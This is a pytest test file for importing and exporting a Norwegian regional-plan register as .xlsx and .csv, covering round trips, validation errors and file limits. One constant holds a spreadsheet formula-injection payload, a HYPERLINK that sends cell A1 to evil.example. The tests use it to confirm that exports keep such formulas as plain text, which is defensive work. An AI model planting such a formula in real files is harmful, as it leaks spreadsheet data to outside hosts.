"""The plan register as .xlsx and .csv: round trips, what the files hold, and every bad input saving nothing."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.utils import translation

from planner import plan_io
from planner.models import County, Plan
from planner.plan_io import HEADERS, PlanImportError, Problem, plan_rows, plans_import, read_plan_file
from planner.services import project_create
from tests.conftest import make_user

# One study and its users for the whole module (tests/conftest.py `module_study`); each test's changes
# are rolled back after it.
pytestmark = pytest.mark.usefixtures("module_study")

FORMULA = '=HYPERLINK("https://evil.example/?q="&A1;"Klikk her")'


def _register(project):
    """Everything the register holds, without ids, to compare before and after."""
    return sorted(Plan.objects.filter(county__project=project).values_list(
        "county__name", "plan_type", "title", "year", "status", "url", "notes"))


def _export(project, fmt):
    plans = Plan.objects.filter(county__project=project).select_related("county").order_by("county__name", "title")
    return plan_io.WRITERS[fmt](plan_rows(plans))


def _import(project, name, data):
    return plans_import(project=project, rows=read_plan_file(name, data))


def _xlsx(rows):
    """An .xlsx as a person would type it in Excel: plain cells, numbers as numbers."""
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _csv(rows, *, delimiter=";", encoding="utf-8-sig"):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode(encoding)


def _file(fmt, rows):
    return (f"planer.{fmt}", _xlsx(rows) if fmt == "xlsx" else _csv(rows))


def _problems(project, name, data):
    with pytest.raises(PlanImportError) as caught:
        _import(project, name, data)
    return caught.value.problems


def _empty_study(source):
    """A study with the same counties as `source` and no plans."""
    study = project_create(name="Tom studie", lead=make_user("tom"))
    for county in source.counties.all():
        County.objects.create(project=study, name=county.name, in_study=county.in_study)
    return study


# --- Round trips ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_it_reimports_its_own_export_without_changes(project, fmt):
    before = _register(project)
    summary = _import(project, f"planer.{fmt}", _export(project, fmt))
    assert (summary.created, summary.changed, summary.unchanged) == (0, 0, 43)
    assert _register(project) == before


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_43_template_plans_survive_a_round_trip_into_an_empty_study(project, fmt):
    study = _empty_study(project)
    summary = _import(study, f"planer.{fmt}", _export(project, fmt))
    assert (summary.created, summary.changed, summary.unchanged) == (43, 0, 0)
    assert _register(study) == _register(project)
    innlandet = Plan.objects.filter(county__project=study, title="Regional plan for det inkluderende Innlandet")
    assert sorted(innlandet.values_list("plan_type", flat=True)) == ["competence", "integration"]


def test_it_writes_the_team_columns_and_norwegian_labels_whatever_the_language(project):
    with translation.override("en"):
        data = _export(project, "xlsx")
    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert rows[0] == ("Fylke", "Type", "Tittel", "År", "Status", "URL", "Merknad", "Vurdering")
    assert len(rows) == 44
    by_title = {row[2]: row for row in rows}
    assert by_title["Utviklingsplan for Finnmark"] == (
        "Finnmark", "Planstrategi", "Utviklingsplan for Finnmark", 2024, "Vedtatt", None, "Vedtatt mars 2025", None)
    assert by_title["Regional plan for verdiskapning og næringsutvikling i Buskerud"][4] == "Utgått"
    assert {r[1] for r in rows[1:]} == {"Kunnskapsgrunnlag", "Planstrategi", "Integrerings-/mangfoldsplan",
                                        "Næringsplan", "Kompetanseplan"}
    assert {r[4] for r in rows[1:]} == {"Vedtatt", "Høringsutkast", "Utgått"}


def test_the_csv_export_is_utf8_with_bom_and_semicolons(project):
    data = _export(project, "csv")
    assert data.startswith(b"\xef\xbb\xbfFylke;Type;Tittel;\xc3\x85r;Status;URL;Merknad;Vurdering\r\n")
    assert "Møre og Romsdal;Kunnskapsgrunnlag;" in data.decode("utf-8-sig")


def _formula_plan(project):
    return Plan.objects.create(county=project.counties.get(name="Agder"), plan_type="other", title=FORMULA, year=2024,
                               notes="+47 22 00 00 00 @kommune -1")


def test_a_formula_title_stays_text_in_xlsx(project):
    _formula_plan(project)
    data = _export(project, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cell = next(row[2] for row in sheet.iter_rows(min_row=2) if row[2].value == FORMULA)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    summary = _import(project, "planer.xlsx", data)
    assert (summary.created, summary.changed) == (0, 0)
    assert Plan.objects.filter(title=FORMULA, notes="+47 22 00 00 00 @kommune -1").count() == 1


def test_a_formula_title_gets_an_apostrophe_in_csv_and_loses_it_on_import(project):
    _formula_plan(project)
    data = _export(project, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if "HYPERLINK" in r[2])
    assert (row[2], row[6]) == ("'" + FORMULA, "'+47 22 00 00 00 @kommune -1")
    summary = _import(project, "planer.csv", data)
    assert (summary.created, summary.changed) == (0, 0)
    assert Plan.objects.filter(title=FORMULA).count() == 1


# --- Reading what people write --------------------------------------------------------------------


@pytest.mark.parametrize(("delimiter", "encoding"), [(";", "utf-8-sig"), (";", "utf-8"), (",", "utf-8"),
                                                     (",", "utf-8-sig"), ("\t", "utf-8"), (";", "cp1252")])
def test_it_reads_csv_as_excel_writes_it(project, delimiter, encoding):
    rows = [HEADERS, ["Møre og Romsdal", "Næringsplan", "Strategi for havnæringene", "2023", "Vedtatt", "", ""]]
    summary = _import(project, "planer.csv", _csv(rows, delimiter=delimiter, encoding=encoding))
    assert summary.created == 1
    assert Plan.objects.get(title="Strategi for havnæringene").county.name == "Møre og Romsdal"


def test_it_takes_labels_in_any_case_and_the_codes(project):
    rows = [["fylke", "TYPE", "tittel", "år", "status", "url", "merknad"],
            ["agder", "kunnskapsgrunnlag", "Ny A", 2020, "VEDTATT", "www.agder.no/plan", ""],
            ["Troms", "strategy", "Ny B", 2021.0, "consultation", "", "Notat"],
            ["Troms", "Integration/diversity plan", "Ny C", "2022", "Utgått", "", ""]]
    summary = _import(project, "planer.xlsx", _xlsx(rows))
    assert summary.created == 3
    assert Plan.objects.get(title="Ny A").url == "https://www.agder.no/plan"
    assert [(p.plan_type, p.year, p.status) for p in Plan.objects.filter(title__startswith="Ny ").order_by("title")] \
        == [("knowledge_base", 2020, "adopted"), ("strategy", 2021, "consultation"), ("integration", 2022, "expired")]


def test_it_updates_status_url_and_notes_of_a_matching_plan_and_creates_the_rest(project):
    rows = [HEADERS,
            ["Buskerud", "Planstrategi", "Med hjerte for Buskerud. Regional planstrategi for Buskerud 2024-2027", 2024,
             "Vedtatt", "https://buskerud.no/plan", "Vedtatt april 2025"],
            ["Buskerud", "Planstrategi", "Med hjerte for Buskerud. Regional planstrategi for Buskerud 2024-2027", 2023,
             "Utgått", "", "Forrige versjon"],
            [],  # empty rows are skipped, but count in the numbering
            ["Agder", "Kunnskapsgrunnlag", "Kunnskapsgrunnlag Regionplan Agder 2030 - regional planstrategi", 2023,
             "Vedtatt", "", ""]]
    summary = _import(project, "planer.xlsx", _xlsx(rows))
    assert (summary.created, summary.changed, summary.unchanged) == (1, 1, 1)
    plan = Plan.objects.get(county__name="Buskerud", plan_type="strategy", year=2024)
    assert (plan.status, plan.url, plan.notes) == ("adopted", "https://buskerud.no/plan", "Vedtatt april 2025")
    assert Plan.objects.filter(county__project=project).count() == 44


def test_the_summary_and_problems_read_in_english(db):
    with translation.override("en"):
        assert str(Problem("Unknown.", row=3, column="Fylke")) == "Row 3, column Fylke: Unknown."
        assert str(Problem("Unknown.", row=3)) == "Row 3: Unknown."
        assert str(plan_io.ImportSummary(created=1, changed=2, unchanged=3)) == "1 created, 2 changed, 3 unchanged."


# --- Bad input: every problem named by row and column, nothing saved ------------------------------

GOOD = [["Agder", "Annen plan", "Helt ny plan", 2025, "Vedtatt", "", ""],
        ["Troms", "Kunnskapsgrunnlag", "Kunnskap om Troms", 2024, "Utgått", "", "Endret"]]


def _bad(change):
    rows = [list(HEADERS), *[list(row) for row in GOOD], ["Nordland", "Annen plan", "Tredje", 2020, "Vedtatt", "", ""]]
    change(rows)
    return rows


def _set(row, column, value):
    def change(rows):
        rows[row - 1][HEADERS.index(column)] = value
    return change


def _duplicate(rows):
    rows[3] = list(rows[1])


BAD = {
    "unknown county": (_set(4, "Fylke", "Viken"), [(4, "Fylke")]),
    "unknown plan type": (_set(2, "Type", "Handlingsplan"), [(2, "Type")]),
    "unknown status": (_set(3, "Status", "Forkastet"), [(3, "Status")]),
    "year not a number": (_set(2, "År", "tjuefemten"), [(2, "År")]),
    "year with a decimal": (_set(2, "År", "2024.5"), [(2, "År")]),
    "year too early": (_set(2, "År", 1949), [(2, "År")]),
    "year too late": (_set(3, "År", 2101), [(3, "År")]),
    "empty title": (_set(4, "Tittel", ""), [(4, "Tittel")]),
    "empty county": (_set(2, "Fylke", " "), [(2, "Fylke")]),
    "empty status": (_set(2, "Status", ""), [(2, "Status")]),
    "title too long": (_set(2, "Tittel", "x" * 301), [(2, "Tittel")]),
    "bad URL": (_set(3, "URL", "ikke en adresse"), [(3, "URL")]),
    "duplicate rows": (_duplicate, [(4, "Tittel")]),
    "missing column": (lambda rows: [row.pop(4) for row in rows], [(1, "Status")]),
    "renamed column": (_set(1, "Tittel", "Navn"), [(1, "Navn"), (1, "Tittel")]),
    "column twice": (_set(1, "URL", "Merknad"), [(1, "Merknad"), (1, "URL")]),
}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("case", sorted(BAD))
def test_it_names_row_and_column_of_each_problem_and_saves_nothing(project, fmt, case):
    change, expected = BAD[case]
    before = _register(project)
    problems = _problems(project, *_file(fmt, _bad(change)))
    assert sorted((p.row, p.column) for p in problems) == expected
    assert all(p.message for p in problems)
    assert _register(project) == before


def test_it_lists_every_problem_of_a_file_at_once(project):
    rows = _bad(lambda rows: None)
    rows[1][0], rows[2][3], rows[3][1] = "Viken", "i fjor", "Plan"
    problems = _problems(project, *_file("xlsx", rows))
    assert [(p.row, p.column) for p in problems] == [(2, "Fylke"), (3, "År"), (4, "Type")]


def test_the_problem_messages_name_what_is_wrong(project):
    rows = _bad(_duplicate)
    rows[2][0] = "Viken"
    with translation.override("en"):
        messages = [str(p) for p in _problems(project, *_file("csv", rows))]
    assert messages == [
        "Row 3, column Fylke: The study has no county called «Viken».",
        "Row 4, column Tittel: The same plan (county, type, title and year) as row 2.",
    ]


@pytest.mark.parametrize(("name", "data"), [
    ("planer.xlsx", b"PK\x03\x04 dette er ikke et zip-arkiv"),
    ("planer.xlsx", bytes(range(256)) * 4),
    ("planer.xlsx", b"Fylke;Type\nAgder;Planstrategi\n"),
    ("planer.csv", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256))),
    ("planer.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ("planer.ods", b"PK\x03\x04"),
    ("planer.csv", b""),
    ("planer.xlsx", b""),
])
def test_it_refuses_a_file_that_is_no_register_and_names_it(project, name, data):
    before = _register(project)
    problems = _problems(project, name, data)
    assert len(problems) == 1
    assert name in problems[0].message and problems[0].row is None
    assert _register(project) == before


def test_it_refuses_a_word_file_renamed_to_xlsx(project):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert "rapport.xlsx" in _problems(project, "rapport.xlsx", buffer.getvalue())[0].message


def test_it_refuses_an_xlsx_that_unpacks_to_too_much(project, monkeypatch):
    monkeypatch.setattr(plan_io, "MAX_UNPACKED_BYTES", 1000)
    assert "planer.xlsx" in _problems(project, *_file("xlsx", _bad(lambda rows: None)))[0].message


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_it_refuses_more_rows_than_the_limit(project, monkeypatch, fmt):
    monkeypatch.setattr(plan_io, "MAX_ROWS", 2)
    before = _register(project)
    problems = _problems(project, *_file(fmt, _bad(lambda rows: None)))
    assert len(problems) == 1 and "planer." in problems[0].message and "2" in problems[0].message
    assert _register(project) == before


def test_it_refuses_a_file_over_the_size_limit(project):
    problems = _problems_reading("planer.csv", b"x" * 2_000_000, max_bytes=1_048_576)
    assert "planer.csv" in problems[0].message and "1 MB" in problems[0].message


def _problems_reading(name, data, **kwargs):
    with pytest.raises(PlanImportError) as caught:
        read_plan_file(name, data, **kwargs)
    return caught.value.problems


def test_a_header_only_file_imports_nothing(project):
    summary = _import(project, *_file("csv", [HEADERS]))
    assert (summary.created, summary.changed, summary.unchanged) == (0, 0, 0)
